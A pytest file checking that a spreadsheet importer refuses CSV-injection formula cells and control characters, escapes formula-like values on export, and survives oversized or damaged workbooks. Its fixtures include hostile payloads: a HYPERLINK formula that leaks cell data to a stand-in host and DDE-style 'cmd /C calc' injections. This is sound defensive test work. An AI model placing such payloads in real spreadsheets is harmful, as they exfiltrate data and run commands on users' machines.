"""Hostile sheets: formula cells and control characters refused on import, formula-like values
neutralised on export (with a lossless round trip), workbooks bounded and damaged ones refused.

See server/importer/cells.py for the rules, server/importer/limits.py for the bounds; the bad
files of tests/test_bad_input.py are refused by the CLI, these check what the import keeps.
"""

from __future__ import annotations

import random
import re
import zipfile
from pathlib import Path

import pytest
from hostile_sheets import SHEET_MEMBER, with_member, workbook
from hypothesis import given
from hypothesis import strategies as st
from importing import read_csv, run, scratch_project, write_csv
from rdflib import Graph, Literal, URIRef
from rdflib.namespace import RDFS, SKOS

from server.importer.cells import (
    CellRuleError,
    export_value,
    forbidden_character,
    formula_like,
    import_value,
)
from server.importer.limits import MAX_COLUMNS, MAX_ROWS
from server.importer.sheets import SheetError, read_sheets

KG = "https://w3id.org/cnc-kg/id/"
HEADER = ["slug", "type", "label_fr", "label_en", "alt_labels", "source"]
SOURCE = "https://example.org/source"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
CALC = "+cmd|' /C calc'!A0"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return scratch_project(tmp_path / "project")


def _organisations(folder: Path, *rows: list[str]) -> Path:
    return write_csv(folder / "organisations.csv", [HEADER, *rows])


def _row(slug: str, label_fr: str = "Nom", label_en: str = "Name", alt: str = "") -> list[str]:
    return [slug, "University", label_fr, label_en, alt, SOURCE]


def test_formula_cells_are_refused_at_their_row_and_column(project: Path, tmp_path: Path):
    sheet = _organisations(tmp_path, _row("test-link", HYPERLINK), _row("test-calc", alt=CALC),
                           _row("test-at", label_en="@SUM(1+1)*cmd|' /C calc'!A0"))
    result = run(project, "import", str(sheet))
    assert result.exit_code == 1
    lines = result.output.splitlines()
    for where, start in (("organisations.csv:2:label_fr", "'='"),
                         ("organisations.csv:3:alt_labels", "'+'"),
                         ("organisations.csv:4:label_en", "'@'")):
        line = next(line for line in lines if line.startswith(where))
        assert f"starts with {start}: a spreadsheet would run it as a formula" in line, line
        assert "OWASP CSV injection" in line and "apostrophe" in line
    assert not any((project / "data").iterdir())


def test_a_formula_cell_of_a_workbook_is_refused_not_read_as_its_cached_value(
        project: Path, tmp_path: Path):
    book = workbook(tmp_path / "cnc.xlsx", [HEADER, _row("test-sum", "=1+2")])
    result = run(project, "import", str(book))
    assert result.exit_code == 1
    assert "cnc.xlsx#organisations:2:label_fr: '=1+2' starts with '='" in result.output


@pytest.mark.parametrize("character", ["\x00", "\x1b", "\x7f", "\x85", "\ufffe"])
def test_control_characters_are_refused_at_their_row_and_column(project: Path, tmp_path: Path,
                                                                 character: str):
    sheet = _organisations(tmp_path, _row("test-control", f"Nom{character}caché"))
    result = run(project, "import", str(sheet))
    assert result.exit_code == 1
    assert (f"organisations.csv:2:label_fr: control character U+{ord(character):04X} at "
            "position 4") in result.output
    assert not any((project / "data").iterdir())


def test_export_neutralises_and_the_round_trip_keeps_every_value(project: Path, tmp_path: Path):
    """Escaped text goes into data/ as itself, comes out of export escaped, and imports back to
    exactly the same file; numbers and inner hyphens are left alone both ways."""
    sheet = _organisations(
        tmp_path,
        _row("test-formula", "'" + HYPERLINK, "'" + CALC, alt="'-x | '@home | -5 | Jean-Pierre"),
        _row("test-dash", "'-", "''=quoted", alt="+33 | 'plain"),
    )
    first = run(project, "import", str(sheet))
    assert first.exit_code == 0, first.output
    target = project / "data" / "imported-organisations.ttl"
    graph = Graph().parse(target)
    formula, dash = URIRef(KG + "test-formula"), URIRef(KG + "test-dash")
    assert Literal(HYPERLINK, lang="fr") in set(graph.objects(formula, RDFS.label))
    assert Literal(CALC, lang="en") in set(graph.objects(formula, RDFS.label))
    assert {str(v) for v in graph.objects(formula, SKOS.altLabel)} == {
        "-x", "@home", "-5", "Jean-Pierre"}
    assert Literal("-", lang="fr") in set(graph.objects(dash, RDFS.label))
    assert Literal("'=quoted", lang="en") in set(graph.objects(dash, RDFS.label))
    assert {str(v) for v in graph.objects(dash, SKOS.altLabel)} == {"+33", "'plain"}

    exported = tmp_path / "exported"
    assert run(project, "export", "organisations", "--out", str(exported)).exit_code == 0
    rows = read_csv(exported / "organisations.csv")
    cells = {cell for row in rows[2:] for cell in row}
    assert {"'" + HYPERLINK, "'" + CALC, "'-", "''=quoted"} <= cells
    assert "'-x | '@home | -5 | Jean-Pierre" in cells and "'plain | +33" in cells
    assert not any(formula_like(cell) for cell in cells)
    before = target.read_bytes()
    again = run(project, "import", str(exported / "organisations.csv"))
    assert again.exit_code == 0 and "nothing to change" in again.output, again.output
    assert target.read_bytes() == before


_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)


@given(st.one_of(_TEXT, st.builds(lambda a, b: a + b, st.sampled_from(
    ["'", "''", "=", "+", "-", "@", "\t", "'-", "''@"]), _TEXT)))
def test_exported_text_is_never_a_formula_and_imports_back_unchanged(text: str):
    exported = export_value(text)
    assert not formula_like(exported)
    if forbidden_character(text) is None:
        assert import_value(exported) == text
    else:
        with pytest.raises(CellRuleError):
            import_value(exported)


def test_a_wide_row_is_refused_not_padded(tmp_path: Path):
    book = workbook(tmp_path / "wide.xlsx", [HEADER, ["x"] * (MAX_COLUMNS + 1)])
    with pytest.raises(SheetError, match=rf"wide.xlsx#organisations:2: more than {MAX_COLUMNS} "
                                         "columns"):
        read_sheets(book)


def test_a_declared_dimension_is_not_trusted(tmp_path: Path):
    """A worksheet claiming A1:XFD1048576 is read as the cells it holds."""
    book = workbook(tmp_path / "ok.xlsx", [HEADER, _row("test-org")])
    with zipfile.ZipFile(book) as archive:
        xml = archive.read(SHEET_MEMBER).decode()
    xml = re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', xml)
    assert "XFD1048576" in xml
    claimed = with_member(book, tmp_path / "claimed.xlsx", SHEET_MEMBER, xml.encode())
    [sheet] = read_sheets(claimed)
    assert sheet.header == tuple(HEADER) and [row for row, _ in sheet.rows] == [2]


def test_a_far_away_row_stops_at_the_row_limit(tmp_path: Path):
    """One cell in row 1,048,576 would make openpyxl yield a million empty rows."""
    book = workbook(tmp_path / "ok.xlsx", [HEADER])
    with zipfile.ZipFile(book) as archive:
        xml = archive.read(SHEET_MEMBER).decode()
    far = '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    far_away = with_member(book, tmp_path / "far.xlsx", SHEET_MEMBER,
                           xml.replace("</sheetData>", far + "</sheetData>").encode())
    with pytest.raises(SheetError, match=f"more than {MAX_ROWS:,} rows"):
        read_sheets(far_away)


def test_damaged_workbooks_are_a_sheet_error_or_read(tmp_path: Path):
    """Random damage to the XML inside a real workbook (the zip itself intact): every outcome is
    sheets or a SheetError, never another exception."""
    book = workbook(tmp_path / "organisations.xlsx", [HEADER, _row("test-org"), _row("test-b")])
    with zipfile.ZipFile(book) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    rng = random.Random(17)
    damage = [b'"', b"<", b">", b"</c>", b't="n"', b't="s"', b"99999999", b"XFD", b"&", b"\x00"]
    for attempt in range(60):
        name = rng.choice(sorted(members))
        data = bytearray(members[name])
        for _ in range(rng.choice([1, 3, 8])):
            at = rng.randrange(len(data))
            if rng.random() < 0.5:
                del data[at:at + rng.randrange(1, 20)]
            else:
                data[at:at] = rng.choice(damage)
        damaged = with_member(book, tmp_path / f"damaged-{attempt}.xlsx", name, bytes(data))
        try:
            read_sheets(damaged)
        except SheetError as error:
            assert str(error).startswith(f"damaged-{attempt}.xlsx"), error
